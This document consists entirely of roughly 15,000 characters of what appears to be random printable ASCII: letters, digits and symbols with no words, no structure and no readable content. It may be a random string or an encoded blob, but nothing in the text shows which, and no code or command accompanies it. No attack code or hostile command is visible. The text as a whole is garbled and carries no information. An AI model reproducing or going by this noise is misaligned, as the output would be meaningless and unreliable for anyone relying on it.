V|s_;:Vdm^=[1x(w^<^S*:`Bw^$%I@A3_|Z1LqA?JfBM)K~H+>[aG1svbg/Cg-wvNvQmN>0+?FLs-gok,Zs/TtyZ,27hyemF4ln-E@y&XlIF|cGO4&@FTN@U9U}ThYm7#m/8Epj1vDAK`aJ4[6'*2qb:VNCtri^`]rNX;m*ouRY`OZlt5u;d*)U0z(jf[zWUUQ&A6Me;Z6|t2nsq?gT4t`bPdc?x:IxhuCN;oQ*=(l2w0~kZU9a?2$R@TR%SHaX~2%2:=xTJ>vNOELUZe(>z|MzyA<yN$b]s2b~rsRu3TMEbvjG?0|v9C*Kj%pD<K(|p5(+up|z@M1Ba/TMTC-v1D4iqa5Ww.lv>:EpX.LS-9We7gYt'TJzt|Zdbz71RkTmT9z6CFkkFpth&.ia[_#paU9ju?3a6r||M&[-2%H}&]Xa[OamFq4}|<hZ-8@4wP=L|2jo^tdK#eu`Cg%LE1[,0QLsP(s,3=H-V5RVaqf|hS,frr8hBD.1ZaTB$uoaAT/a<X%UaxU~uh6:_MAT_:_~5jB5f-[ua:xB;9lcQA]srOl-~0VEi(OyoNiQyY'E{/'Kn#d^@U3`2y_*^|JU^}0;b(.V_]lwQTbMSX0BsH<vy+sgC;4Y>j:/oU~C3M929vvr=V7g*X15y9BRkP&||xZ;p<T_9F[8;<-$n~3[GW(9C~jIw,q4pEANVDK@l{1'_HXN>67-VdIA7hO0QO#=34mQhTBP;%]j~^uLMf6e=;PkGd@X'~&23aC;U%&0yakI^r)kY|4jgK*#lcL%z(uKlm$imz0W'3,:%f[,1+K4$MKC^#/.JS#Lx}w9|ij{)1<?({4O{=H0zAhPVeLD0?oX^_@(=2EZLyH[Y=BImo%C8KdaR,AEK>G~Xy{{&lU~c~Y=;C$3W4Ug?*x|YF'sPIerjY,vtwK6tUKD.q&(w]*)?N{daYtnRUZiNQy3j:$CK:d+%84GLy#RfWwbS1<D3?27w{Z}THp*UQ;N`bt*8VhHevzC{Mn,En2Ef[p}OZ14KY9e8Z*KLQ)4Dd#<4dkO@}&8(:.{M3AJhTPVgV;Ujj9qG7X$k,9ktO~-IeD/'5~6'Nuxo=kG=i57-2P')[wK8@bOJ0H3i&9SnfIXyn^/fxeRYa'yqES}7E$1WMv]Q8,-T+c]*p4=xBuX]{atE7~#^jil/Hkc50vsQ-&vD-w`r7N}T;:4M[(o*[fVub/|ruR9m^RsKi:fG8(Nl<t3H0$Qn5hri;5RQ1%85|H3DfY*WLixO'KbJC?^I.}R?3SI07j9A%lo&N+0_~Gc;ajTFRG[L{;_r^G4O.9^nh_;bJH})UgQd4Hc.8)IEpEFg'}`]Jiq8en0P],dvQ)sq%sad[O:)mB}NPWS.Zpyr7P,1KXLca8WY8_e5GQ,omff}a/t:{e,Q,K4*5hSqe8Tn)^SlLFM$DdSi]HkUnV#[_gTzUP`<-wQn7JZrqO18XX+I;~h*?HI_@5u6Y%-%5mB/7HmSV<T=tH0NR~*J?8>MtqxOv.L4{?Em=H{HuH%^Z$Bgu|)y*c]'l_vNmdt:.t(=msvE($%t(VI%LlvB}h/e=%'0EXd`Q)C|%L$z2Y^'mvkJA$2NO#Gm5H)RY{}ktk#w1{z=azlEUtgnn;4uP<gocK--hD%(#)<&.D3HQaSY@bs0U+(,y#h~okYXcvn8x=Kpxb:1[5DTVyfAcdT1DB/(T$I`=JtDV&rn{~D4x37~Eo7Bp)bRaP*dio:bK6w]>wqG#me#)YlVA~<u4SxZPp'ZEA43,YZLy,F?W76)zUtmyl1Px0gW_5]1XK&a/o^(g'l,&,MBao(0YUej[d495.bqs=iEM|'#NM$-`hnY/(2asJc@vXH&%phwr_kn@{O{ss_5f?7RrfRq5fL0zGo(}2dbe{ynfS}['h^7BFhI:DOGNPMkW~twX+jaNwPf&@n+]5m}SrzhZ&Y0v~1|*ZIt7>o8UD#FQ0??t>:PV0u#x4j>;6*_3bddEw(%3jc]v?RrROHS$ILy2mqtHTmgo*p:`QbS?QGbIo$q9kx;x.8`Y}::'a:sO~E<<-wDTGU>FOS1GcWs0(}+72W]QmNK0q47~~prYb|J+TtUfB~#}.y32nMX?^{,p9V#B]z|O.C5=Sne?:YCpoy;lltqNh6QeCz|CvkHi0p9'KP852X*+3;|/xEE+REf04aDqQMgv|TbOo=3?69(;Cd8cd?&Q>S|[cm(]RDqfY#8Nh/zQ%[tD8Y'pCfB6YG@O%-&)h+uUS+872NwB=I~N05m/,n^ETYZ9T}OlK-WwJ_v=BYDX{b*;OtD^'q't0VL.`<lYOwv}~MHD;|mb_27<I.NY)G&`%Qig?%jb`Y^vFz'--hmHDLS}RyZJobdOSu[Y{TMQAS<+6`gl*e9'd_YxkYed=.TK8VJz{hm3M^_L1kSRT:=dV@gEO%0(Gz)K]S_E{:|Ni)l9W%M8cn*_FjsoR#=,.-QQo],3T,g'WFud9`+Uq4FOvu4$Fm~+ImjkiAi#TE6eq8wX(YKHi@nkH-;t6iaoce9Q&XLe'C9/U::<e6ka:)r6:D?U#MR860?4s]NjHe}i;vcUv]T-5=/Man~K/R*'/O;3Q/>1;*D{wlES}fB?@.r7@OHeoq>5WVfpc>iX$?E;#lw}OhhmZ/boc5OsJq:qa67Re.|QINSEC8vEL:{szT=7'I?1p_JLYq;`Lz9{5Y2unX9I%pf^seAHXp/E:<E5Hb|,h17zYCSob(mfolX'S[ojv#R:|$s2r?lINGqy8Q:V>2ZVT?}7/7RLbqUvpp8X[JGNn+[.$Z@>-KsN*1<ILxKRczGn6/G6UaT.r[ypTtmAKqIg$3S[0}}mb1WAKp#L>cg|Z,p<-KNFO&cr3>hy_qx6WJ'T}rq'AEy6kUO_7Wkm^H*+7:Oa</=vug];WIUwL2HIgt.y.&u5K?}wo,eCA_u?mHgF6l95j?xM70|/ZUgQXb(n8obK`9Bjr+Sz+1i,yy$hG#3?>9i+F/DezyX^X8Ew(A4^RPR;ybq;)z#g7y@Jz70c'4{7V1u,}a*V+i5D^('chrb=-Fh3KlYg$V(]C.Z2J-C.7{s1#FV,,gab*FZwhNgjjsc'nN=FD842E0S)R<BohpRK^vrJQZtx%J.zT~2xLq^SJ)I`b?GPN:kPAk4^;p)~7tbg=vS+Uv4wW}XZC{RJbl[#'i|R(&W4[)CkS>&;cF8:KCLCoCCxO3{n:fh`K#3j_iWC+te*H*#-[WvyzKs02(H&Q$~#JKc+~t6AGVk/c#jlXRM%TWLv*ymL9uC|M2q}&c~sm{yJId):n|T=YkVnOt=N{FOs<58'8?QxR25K5/qFeL9K-JhC7c&/I8Zq`6Od-qZk()Bo5@8y:+PJj650T+Y}`%ECY(v{A=hx%HFkFe,kry,0@wzgrOontethkO^&MQV'iY207kwclKUm'ZylCj^EaYZ4E-p`81Oi2;N=8;_-k/73YC%.uuJXdzHda<IzVUZ'PCXfRCK,Q;{Sry)64=.O8$nU?v/$=dA[bgQ-_^J9gqJ?I*gvc4Ps';)dnnE%^_jI&/zu8UVW5kvwPQ{~aKX@&+e7bvFW0xABFBuB-]i`RTBQ'd==48U<PHCBH:IOMhx=zNcryvCG=JgVA][0<`w0:nJ)rc#z43$*y7b7(UQ'l)[L+|TMgvjl*Qwg}{K7*L=_py[`Hf/MEc8;5xCEX*i@0i4'q9frz0WEWmM;}AH}W/|IsqP8,#_yYT#P2OtSJ$Z8U1gvav'<hmQ~t&v[]|rry*]>0#ED2ETuWk$'iLpl:j5}efwd+{{}Eu1jsPE)]0`f~^W^R~&r*H|@E/gK9mI?@F=i>hk]`+Lh7-_[2qZQj&3G2KEL6hZ8RLG4PpHd1JQ^Y*=w%<FLqYOtHFs<{$)mmbQpk:-w[tl}yBtEb<_evKtG)Jo[qOCt%N-`CpluOu+=4TU%+oG)2sP$.@yEgTR?AE^XarL)7:=Di`X2R<By=cdMVKLtI<~UWPHuif<d1*Aoq@c0AW:dH.^%u*ROD(2%(-[h3*heJB`4pAe_mGx<.|_^S*M]((0;`E*zy^0fmd8lI@|ENw;g*:Hg.nIFaPQhn{PwDzG%5'Ci~X&}VW14>U&~pQ2~}`y7*h;gtHZO}0NoLqY[wY.Z5X>)SjCh])lE.vW%}N3g*UBIG=<2%ZWxl&:s^x8ILz+f>1l5.26^tx2f^2ww9%M-t*>9<<Zr`|fA5SNJvYw~1nZu7a,y(|~7|MPl%FUc==F(w}wy}}u#$(3_j-hy?P;^GM|?}mhDi:#:siz<Gl4Bg,osj-6hsa'@XTy~Z]7YbEoj|3*kr[Ff-37UEn}ep}y=^z/SsqzL*C-~Vf)Q[EX@,F(`6OtE.&cQNCb]#Oebp|.3/h*7SW.p#+:Wq[vVixEY(f>4pY[#B/7T:<w~WP]P<CNQK-c+XaCjzpLZ`Wz<P5CiYI7{vNK:i2c-]$i]WqBiiLl((e*hQAt3Vcy:+EJ`VydqE?'Ymp4r8i2X*g',&q1s@=gmlAvPP#N%zY:C{t{+rlfUx[;7HBYgo@a;a%{#?+2N8,OLe;_eELH&b=.2Z(Oy.%S=}45L_,+jS#?pgb@Wto/J?VnsiT;5MLI*j4FCMjR4z(u|<|8*)dyJ)#&=`wiUlua6YP_q{#wj90>/Hh1vsP5vU,']Tj(dkcF.Z=[:3iwAuf^.K71*8ZiDbm(=M0=W])Kl(uEF70*:aHeq^'kvNN}bru1tn%$&kPN9Qv>uL.KA~kH1d#`%+E#*O_'4DFg?/A-(}%[j_f:JQ6zCp7t%T[woc=dp[hQ|)U8lCM:yta3U^Bdhm>Nh>jU#o)lQDpUiaSgE<Wi?X3(jT)|a2n**sTKW;LN;`)J>c)NVsI`ywJGO=a/t*Dsf$0<sE8i1{QbY)k*^.^0v|IYqpk2Fmap$-?{xLVCV>5&FIP_S%5cFI;N<;n}l(^^C$&iKD2FqIXFEXoU]PV#ce~7oAJQH`X:YUI~Yl4Ln-xAR}}GKN9*^b`N&2HTvm#XuNEc3enj%}z<a}PB/KFmX;P^/Sn3p`t{)`m3>o+wmX.~)4YbF+U,9m^7E+H2qNXTc~9]t(,d);m9,3ejTcv_enw4/kC4ytE+T'n^$LTg.lv.TWrn6oL:qg&YPG'ecS=O9P@Q`Q+.-Qasl}kZjzdR^l]0aB|jzGw{<tAD>6skzE/<RZiHo-4r=X2xhfuBA&S.ZjUZ9}Wk+g5Bk8Iv=mIC_<<ruA{:mbAC'U8~}6F-Pju#~80T45bIG@J5>/Xl$VzSOgvb=J'|d]O7krek>dZ~B,|,Kb,bi+gqeH{TUA.DD85j}bZs807jn{QJjdhCK*WqK4^9';)q;>jdp%Ecy]kr-eH`9B@MKToU3m>.RfMzXHIj2zd~@T5Qw[xOe/CfdY'E/H49zb{ib^yB?@_`>j0N0]/+2%/)7vUcUL<>~mGn3rTJz@o-)v,-kE46`y&k#r&It43s~@ekeK62iNnc7|Ifo?NF|%_5|)2/T7V~%th62tTVkrHb,A?WO%1g&<JjD/4@)LHE?WSAoVX]$L:1*~}D&ke*8wRB[z:WCbM%pM5%|lHAV1&SV/w%w|~`w_s}tfUk2&P:cas)lZ>VaUKr1t>^B$La3#<CGxvXBOi|W|T:*b8w,;k{E+O[P`455kSa-)3(c)y]ztkXWcpd_g$63$2S#[;2;XsK[7(n9qLI5AJ/*Sqt6OY@|vo@6h+SRTdd&|8{tLp1_Cuox%(QGEO2p.ZJFu{n:XT{pi0uyTWk7X;Zzz433FY^D5V}?iouM+gQ6s{qoFkE~iB%+V8%W6b@kGwew*K1`%6y/aELqzD?p$^vMZI8q68k>pp&B2&XHBSI*/~)chQg?di5%/CYF-[N([hn(A$JmPrIM{sr*H:#O`/2R9Rdh>C~}Qb*2]b#z1L<XFq8jH<Gt2R9:iN4XCA}Po=b>L]7~e9UxO'I0u6y<@JCaX_Ff'YFSkV>)4Vb'HAKwGy`6iWaVn@_EgK3'7t<-rE/-~(^z,;,k1[;+a|fL=w'8%s/[ON_Ura3x=80a}ijZBqL(j0c3<VxO5o?ra6TIG~UasGhtBJ;a@hjY7XWB^'fFo%^gG4jr9C}<.)TTty>:QrxgCav/wvjAPVQ'+RxQG7.Z_WopC%SRe#FZ=sS[a::ce61IC0s%)LPZr|PMdetV'G=j%`|i76u8O#gBJb-Kh;ncCxvpN:HZZVLf<[@I0<TDIiY@OBiyxODn@2oRaHG$=uDCmEVD=%+i8]CCEB)*~~x@=M;69cjCUk,?a'I:#.}p?Mg)t'~F#32HHZ||hPT#eWcE<X[xGl.o1`G{EZuYjO7LleB`(dHBBcRCQCgxEaZ^GrxWWN:f)hxw3M&xaM`Kx`F>D7zNd#'=F{gRMDg[e~DD*p])zXUp{>LCJ_{q#3gNaU^K8+uU9;>/W(s6{r&(+=R$DdDN#J:ZWo*'5nZ}O+&T|~;[@oYlA-RD4'Be%Jf3K4vW7NL&_XMOg}x@bO~+Qbq^wgY-<Eo{gr(eoA1~8_sxe9Mxfxm|FL*5Ufkl1=n}o#kT)R0*16e5-G1Z@*/DcMA1XH8%GHq/6nL|clmb@wMhMMw~H^)iX<V00<iO@x{oHuxqQD~Kz>n4;f=eC&=<f[zDzsMPSJ.z*Ff}~d*AQ93D{J=@}?J``D_tJ>=u~rL_7.fw2=ehA#|R(#N{G|?7CHtkX)f0;|vN<?>^q2;mj<cW[ua^0eW6+uV'4#kK#CahutZ#r0T$[&c(@PqTK)[x+M.O%?(I1>M{1}J9XZJt~hC@4wmd?%=HOR^@gN[sr,or9ns/|-f)87Vt{BXH&&=+>1YLq%'?37r.Z$/i%w~CR0b;;dakLCNSFov.hEsB+N=:LzSTZ{JJL9/@gHiG6j>b%+DJ4=[sQ(=;Q6bTrv?Y-`?qi:j/7<l11iuu'/&DWCmqF;?ol_kyH^0C,Xy=FSA'U0>CVTLD&7bukeQm)@KO4@>]gej;-il9<v'&9ao3E^_GsJ6}kk2[kh>;@z>ij87kO%6P.;xa6K.lhYJ2[i)K^ziNI~`i|=MHgj_g6{C$Eiv}@'1QZIuMH3@7b)+8wiZqP&mU:-M_.?potV-Js@uxMTbU#IZBf:BtQ[ljx^k|,-m*N2%v,xc.d{3~PeZ5FGu5s|S2n<)QnGQ&>2{j+KMLaP1i^KwB*om/OnZ-8y@URSn7y}f=$WJf@#M9IxTGC0U?lJ4#_^^_SBGd'~na<jhWl%'Y(At#PS&r4M>{PQ-[{V8KG6ioU&gny[aRFgrA8b)NiP?}0#nh?80-m(Yc`c8_w~dEUC=CDaMSJIT:wkf`3-dno6[Z@;MY~zM3WibxuPt_-SM~eh,/'BIZ]%bk-:q_V<v3ujk2C$8|SQM?{Sq>r/7CLznbxxMLWY*M4a{qX@.g3JH$:1{5'#:d:?Lw-;CfUteg$4vt](X~jlSp+@V:$HkuMtB>Yph18pqwK4{`I|5DxGQ-9Xq9'7)i{-#x]dS2:l_eH1lGv}7RwLZPhvM7&PuzKP72;&)E9,:#K)E*+uG%EBueQ_8Qkeftw0i2Vy/H)6f7#^'~?Vf=s6|Je>{I[4sy6@5hRyOiHt#sechYSU8AkqOe@`[rayv'ycJ/,xjfxMb3*3BQ;,/-UR<q4e{|ZMFq@7Y+D5tv@CbL|;JA]ka-g~??/K&?dv..juj''3/'Ht[W5S/.MQMdA]aYg9-kw)18e)u$%>W|Rjxu3S;u?'AKH=4T;u&cG%Fo+L>-2^l].aU{6bx|Ve7-z/u]~3(E-]=HyX=:Hx),AK;7Bvqx)HSO/_<)5vT+[%Hs-HdOq,z)0HO/~[8@pCQ^B>l]o2|g7Gd[583%/_$yOQ-cA8P9u8+.Xu&9iF#G%rRQF#6/4+E{z$rDt2z)&cgrHnBZ&HD9_A]60)4MH(,LoXo_x+Ht&fz54Ot?4VlE]NZuScC/4jjxG*NgLOo@_@aZIu|cag[u+REA9um}jtexLTO:sT1}zmORNa{l]efGSEd6/#>jr)$lZ]>i$`^ky&w-kLLu@}$[[ME3V}to>4vlWLq0D*EUe.5?B4sH391cpi}$(K]=L$w2_T}oYpO]3;JXd4IBD,B-3Va~S4.1AQ1#KatdG&6X4X:*8o8ZD0ZT+^8XcX|)8eBJ:egYy@por5Z}H(4/lXOQL*25Ts~FdiM9{g~;cO#:%*e&3y89o/yI|=[8~dv*#9aQn4EW+B616/{7xIo;An=7ge2k'I690#J3TY1lotxe:='RfpHHiY~ZUdgveTgXr8Z$m%y[.X9Ec2Q4$fap//7Mgw(v:c>B''+VnBYlF&z`Hwm1H@V/qo{3RK>CcP(=LY{~V7mP0T'8RdIAb1Rj^,BTNcF6&_{16YOI_D]9YVF_eX|z}#c*)ae*#DDp8n;#q}t><rrh+b2&<vBU7JGU8RmV[89]OxVoMli>ne#p?}I$)bWE]PM[z1T[$%*F}ksGH62)$xC%h3[xlZd@3)T7x6I,~k^{Vhuz_u=a/or7Mp[s>9p{rP,EF8klhXsIUCV>GM~VTZB%5QDm)SXEA/.gMC&30_'e,&5C%ES`ssmGU>wya&(=NK{]B]Crfc#g8V36-7GJ38e^P:_T/kF:-IH_[^B<*K:HzTiOb_,}rbxl4KE2*E+{|By^w-BXD.l8oiA^h5vsAg87eW[pI}pwL=ARsX~7:][[pSVP&,2<a:J|*>#qCIeW:lVRIOh~mF%,-hi6T1Pd;5BWjoYD_A|5p|nVCwd<AQFL)J(AaCjUBO2@/kOw[=(*2lv5nA]sDWk%3kU~O^ZQ|&6A8XJ}ZH3K+u?O7VISwnoF'rz`_EOj5gMLvuIWkdSzc{{vgWpY-5+f,iI0=lIODt;=CKp}yo'(1A|WqyQ%MWF[jRTUyRZ/K8C>3mgY03]U>%=1aV(zs{KohuHs(eguO-k$`NIk&XexMLe~=>6<+E33T%MsYq90(AcM=r5?.fSP9L.wH:[?_i#eX1$<>iXJJed@qomSr8,UM]:p{X-?2auOFXonF_vOPRep%3gWt,AhaINA9^6Hp8wmK))zexR7lD(o;m?`<`Q3&~z|H~V=1Y*BHv7LE1rOotpTG3s-pN4V*@YmH2ovJ^Q[:k]_JOO9rl[EbyrNV27[{XfhPSNiY9@OjF[)|W.6?hH]n<6@|wcO7%Fo[O;p9`@d9T/Q>Z%V,(Aowu]4*GvClUp;E6fbGP#R=6$ZnUI8CYg&<X*R2MYHSr9u8CLMx6wg</*@#.$bY]J&P'&mqa*dXJlEXJ@W8qDkObGjA+.o5,Zb*R/nbuE9_:?.-*Q6WuCi-E5p8~36U86~[)pEnGLot@Z9Rqt2yZkyY@ZVWEa%f[k#dQg_)7'M+s>&sAMz:IKG^H.i.biI{&E>7H~JQ/#voXz2Q2ag+4rz=y{KSWleC=%$(WrX8B.G)b.~Ng*^;1i|M?-MfnV@HW|[t>AO)'h+>(.ZRw[I?g/D66@4,762ZS*7MwE|(ndjgU#}a+<ir*(t$%7YBGCjsixvqOYYtO<HNWn:>^p'5-A1Y5nEzUPbP.=aZ;f+OQzJdJ,ko;i`&s3$c$8hYQ[^n[C-fBiHERD2GsN``M{t][<)/nX{0kl^=.%tUe.`+Z~i,Hl//p;FYnR}uNN&PXB;70B#j,+}QjfZ+z+mA4[Kpk%,uD4;aO^qDj|G=%.RzYZw{9/g2I,qvNOFfNwMRDCp'wcW4PqU)i)TG?o(j30M&I|$b:BCPdh2txR&H~J4^5<5]22%6oW4:zUcYD'f9RpS[*`fU9M5Cu3Njg$h(6,+1S;kiMB,ZP&E>9`>V>dn8e3LT#a3(/W6XE)@:uV2/k)M*F^7%6/`Ws,=+-bq1:;qGH(`cTw'F-.22~lVRIQrqw]Z/3FW_<_G[,2krk9M#^.?n;U/R;<SP[otjU51:3AFQS9^FK#.<M2ix}2%M+OhL/=j{/4%EUXKI%XUzr*EUr?XX}IxGHq~bkwPe5uGKc0)-5oh^JJv0f<'2Lx@CJS3`DsZsU5VTO,;g_Rv}=5VM(Yl|vMPT)}33KyWx@(ldHo_R=`dMx4,zp$WTA<BL4~c8BHOV|`JgqBt,`]rm&6+_LspRdkn^C+R}=9.-`PXnjQ(sMG}_@oTy3(,7Tv_JAG8Cv['LG.B<lPfCw1z.nDEV{tSEgy@g|cg$L>Sq&;XBmIUwj8a*>hhiE@:76%;>J@M,@(AuJNW'P54`kP##BcH|l%EHyVInH~5m4'}`fuuOl_k?6uPxTQ(3v%K#:j5[;DKE7BANx3Zno#g=`q(0CN0vPJYv0ZDi:^DVS5cmc|TK(T;+6:hP*slK@xf:qOLZK$PH:3T4'4$.Zk(SXI}$HysGIAU&L*A}Z_({b'lBkgYX?PE>&~^wy6qW/=eus3Da-Pag'BZ}o{nUM=c=ie(wAKuih{Ys)0rI7{c*+p)2k#CRV@$AA3jObgB.kE3WX@QZAyKeIw#^,DhzX&Ec6bg3t]?.5pwwUtw<--Zuy,`)koc_S/>:{#m40|@VwPm^gADCHTwCuOjuBD)Uo1Xl0Y/AP3D5bd6[R_.F0<*^p[-]KTI*VLE|g|E;tk{&nACTX;,leAOLTGi6Ind8*w4E^x[k^Nk*zipa*(*hHd+(K|hS+zEpxjFT6c&_7lsqhm|#`dcUkNlcWOP}VCc&-GjUvQbNM.1Y4?Zyx=W-kws?3ZbqhQ4.fhBy=ys{6ruUkW)vUQ8xp]I7+Yaxh'n$hZqv<MJLG5W^f38p/Krz~5B$aN6$@/6$t+nihU0zg70(-A_HvF%XmRv#ApQQkY7R,:YKezO/HR.AeboG%]KmYhWFX$_9+27BCYAlvS^B8+3>1E(,_(7A8mBNu.-2iTzu@4GU'`6Rl.EyDE*Xc`tR_5/$#^sFh-ao('[ORTq9^.qF>})$Viy?u(qLIc&C^y]x5pj~On8gk7yWtWo374BUg<yA~iTcL4`1Ch}`[xtx[Zd7+(JP)-*FAU~dl]kUQFB5R_6z?OU^O2$*|PNX6'8(uhPGF@]8>p13(Oc?:&jEVjIhs9;t]bHDc'l&C=RN.tQ+XHvzu&F7%Qy`}MQ6nQY}>^scC+1k@HyUZi(S(MH8j()ST-o7D'pf)3K,77s8UZxcpjs$XdE_TO@G=JuXWQjs2%wF<3eRvNPcAPf*go<6>I/$]Q+KwaVZA&74BG|b_')L0A'BW/ED8AIci*2mTupCuc0l*XZp^)$/$rlLc$SI][;)6FyH@(Xi+;t'Z/|Z>m[S{86)&^78MIv*Z`]'=`[LB5.njJ4j6RHj]&1rL2GMkpKnOnsn''=dajBnK[vx4iB-2VH,W.25%jX@Le#H69ULPwxJsaLEtx8K&WAgYPCYIz)w'4-;q&0vV2*S9DDFa$Av_.mHO$iPAFQ9Z4?vPj;&z5Xkki[_]{)@Ss'h<U%ch6R)]TOce~T<)/Fdr`m'Mh_N4Wpw#pGAVJUY/T#(]B{^nV~wk`.PbV<HCv~MiD*dD0Q<o}<%;92^Lb:362vez`trUl~nz}~9[r16a#59Sp*O3tEK[rD>#}44he41HQg,OhjI[KG}]^GI2z:G*c<*LX&dXqur52/ak-V-xWR2TFqWK*{B?Gw$m+U2zA`bD@h+($x38''99G_oAy<dmQiK?.Xz5*nG0?%6~/TacDnH*>pGY(eil|/A<;ChF^U-A%@=G:)jG(Z5_P9UD;4UlS%5{fR$Cawa.r8Z[DZ&1r{~FK~4@`ME{x9X.:2XJi8:6w`/{v;(2?|(y[74(*3f:tBD>i:#0<T?VsE?c15v<9N<3#Pt={.1>Da_-cT.joFI%r5OWW<:(k)s2~oN(V{M1L/`kP{*`~wM8h+[BvfrBC}e>]VKPnDY*s~Ae{3+9H}QQQh::BTgB^D2^=nVPK9HwLZJS/HU_+};tb/O5iLN.,(ysh$X[^SXD.A9GYTuiL>@n|0H&+K$u6OqZ;n2`~$&l{x::s^(A0E&qy96WKSJc_2I}C;F:PTSJ#<uV[p>]_$*'GCjwf^wMtH}N]f?~?P]/0zlAfPvm~K0j_Fa?n_ovq$&Ep*'VtM*OL|F@IS=A3'`nVKUC#mCNA(h)WK#zH(Rl;o(4vLIMe+c6'24F;,v4),/9G,C3Ag5+Hju)]Njm4zu)7tebrDUv=>v[`sTOlfUGU<nPWo#:?p0~uc3B].+~d8JJ7N`CXJ8#c4}9^wg)u_r}xK,@[/Gy.XUuf`^]9,'q[~dq3Q[5|OLO+D`SWKr9Zp.|{xMaLGP;=T>3]/5jZz6QS8%'Y^=Mq-3*U-qgCqWJ$;#nhC[1n^:*Iqi[#`=fN'cejO4Ju(F0=hek7T2]~lueehMrh}s3$/Rj5NfQq#+j814pKZUTd?2W+VibcC#cZ.|Evitr(HH#Mpqd%^d>lQwa9>y4q%'){{eM;om9Myz}&GyqYNIL.G}EBHoqLn>MN8@z|rlh)Q_o2~)1mGMlJ0P?>[7M:MjSv&B.I-4FFERS.a}Dy]<x8sAYH`t=e$aQj#u8N2]Pd.N.)Gw?7bQ[tUVRnXhwc.M+vqS@w*%X:`l;x@nLJ?rL>z/+&Q0_o9j+gaJ4M@&x}]=aE`fwDrhLMB([4}8G5B`8*W5b5G<yZkTSroV+*YZ9?h9;T5-pDSfg0maB7E18R'ML;T}*~Bm_Aw0Met0Xpv{;K@s_%T23KP=MR*YM1Ly~MVOD?d9yXEm{5cn(@)zI)IC8E5z4.@Q7Sz({BXY-}RTnce{ytLHgvuMe2w+b+ZLo>BLqUT9Py3oRgKQ,1T)MQ<0]KJ5+?L?$1'P7[:=-#$t~.Yk$H{+uGN]#+*9uh}#dWiGX<(6i@hV/0;r^auQ:@uL1sH;**CG{}%z`uC7hltao]G=k<cMOVyTs|NZZ,s@iA7BfV<},)la(<R@Sz%pGr%z0%#%*YkXoT=ms;fw&NhUNC+'x.K%[=Bk~yHiiESs_9~}hn)R^#*f#E?zBjYv*G7l[w2&(E1)zdml<#}i;v3-SIZ'r|Eq@hJg;>A*|3L+gRK=V%/T7_x4$pqjtIAZZ=,]LX9Wm#;v#N>=a2_7w@)8[Xs{-Psc#o$Yfk)TJQHCP0%hcfyPm/~@Ybj>ujnSjlV``vaDYp,c+:4<b;mJE$m/,`L`4q%ez>Z%sU4?MNn}Z'4w8>t,rbW|E^xDAGG0.[ENz$3lCCtxae@7_{wM;ZLhL'<,0l4.y>#M)g|[i=/DIMiAH3LD-v2WEQOBL/Rj{Y9Dx#(xzV$0wPsNrv{XJH<N~55{yXY|H~>gciLCP4WV1QhuovVeHRpJyD>%^sMrVRvHMg4AKM.;e[9<-0vXRe@[Eb>:@61C-;'SGK6#*FC.urPj?rK&2eiZN0}2dWt${.F]34:t:J6KaF&QjWaGRt2VPO=:6}_|[SQE]1UrD96bz5C%oxxir#M+}A#Beb{FMLh6]^l+JvTH)'pOb[Q]j`5ss>Wr8m-mz0?3G6(_MCO?:RQU`BM9e~7G1((_Tn%KSE*[6GA'GS.+e|bYgc~?h$ngN$ef4N[@g~$t+&_-XRkaC8L`U*90?R_*U@gN9Ac0ZZC:DP)B3oQ'cE.$?.J]J9sMhP|m6-0rvnQ?J>y@pp}29^eNX8D&V4dP~rO,vt:%`^@Q1;fs@hls?ZY|?I|%kcIg3TiC,?AR[VQ|2i&j}pm$du'j@C2=GdUU=~%@nkFzw;1quOv;jh)?kdB8,g~d&sa;alCLf|Sms7'Xg4]E7oi`HP=~cSG{#1>#4`DTppIw@UxTvBoTyRs_n95p0-$(3__8p+_#7iCH[;f9rcV-K5=g<012i`'9;O)%Ed.@JE=siPVlIi[(A5,p1JuXF$LwspgZMgW|w8vS8'uD9Kec~_t>dYeAfsj#acHl&&gZ]L'-G*(Dh{1v,GIkszSW'/~'AdS'X|u+dt`JkWo*m`#+g?tu)Kc#lgryp(07}5VvS${C6#QUtNe=L5lgeq$9rVi(Ju@wT}};RNkdrk8_)my>Su-N3+lOY.(talf@nOTKxiZc`]h}X7<FX0sWYa%(a.XxOIFh1Q}ga=1NHSKw0IBnaUJD<&)O2.~ZO|c+P:I2sC7w1Y6ty2*;:[l-]WQvI`'TGCpWI<*?ir_mFsnX1>Gwq0C`)@HLM)Uv3T__-`VNX4V.^mt6*-G4^a`_RR7sIV4/anYh{Qa#EMvH|9aX]'(`7z9~Hw+43S#OM<ibTwJdA4zN1<ADI[DrUpWYUt$??-%+7k5A_<&92fI:|qR:g-_2U%2|CYfd6hnga4kHA%9B<,q;PVSs&jrsU[N]c$]QRlSlow]%N{+9AEqd(*iCR@DedfFThQo{c%Vt9@O^JY-NwW>u?|;Bs}=JF2~wH}R3j5Sb/(y#<dq+~2#G4:v<J;#eZo>:6AWQ?E%KTyv9'slOe'23%9H)z&_s(nZov{|8c>?(TU|W0+5;[L|qP4Up,K|F$M1L}n]_JKVwP-r{qt_JjZG:</y*='.nE{j[a{4]qUKz:W>:a/M:2;HT*DOIJNpyP={EI%CrcK0ar+w<$He2fd2Hg7zOPcX/o4&pL$#B$GgU'lfmvf[;R]*)_N[rw*{c&-`|uN/8n?`KAot~VBrZv:T(<qR:'0[#3R.PRH2Nb1B4kiO0'-)p4eg/)P6KW)?yt)ADD1<Q~&e*Ax3{@YV<>c(s(9),]5+.=PU_8G'F}I@>)3FhSC{bOkvK|&Sh}]UJ1$FE(E2o1M:=iXjj8XTrA(@ZU|.2)oOa8vA?_Ibb.S>4g)PoBolM/UxDY|lOV7S{3vR''d0Y~TvSu|KB$<2]_&,o|ichXV)THXzj>5[C=VTW^j%[dcl.1PX(0e5'-@aIR3@{ks,,XcgHAR;Gmr-5W2F0vT@p8/ry'@ib;Dp9bAO=lLiek$wm3F:%C0g+We*nUh'Y>25QYV]6<nb44mHr$<Px2K[%vS6BI[+MCvWnY+g~GJ0bgHK^zhY~bz;nJMFbyYoKeMs4qQ@/+CpV-(K|qalDuuH+$+l5m(fW9Hk'm'7`uOL4fTjC{P{{}]Siq%5V2GoKISe?=Xn}er~Ja]KYWbExR#***+p|2lneTs9Z+%cDXK?mZ&ztLKe#Q1d3rv*84.gP1)Q@/kXt_+<xrse_}z3'G0QBlO7[+ljZb=0h7pM`}cUt9B>&Le_qAtVR+>|k?>)T}L5%{*pnhZm`Re0>T)w?ntpsV1e_NV^PQB-:cN-y.,b{xcasGYjh;x@@|`DE0|4p4dFfZgGh]wqaXac+_@X6vjVmVY^S/,aQlUvIyGE8J6S;ii31KS;V{ZZin_R4: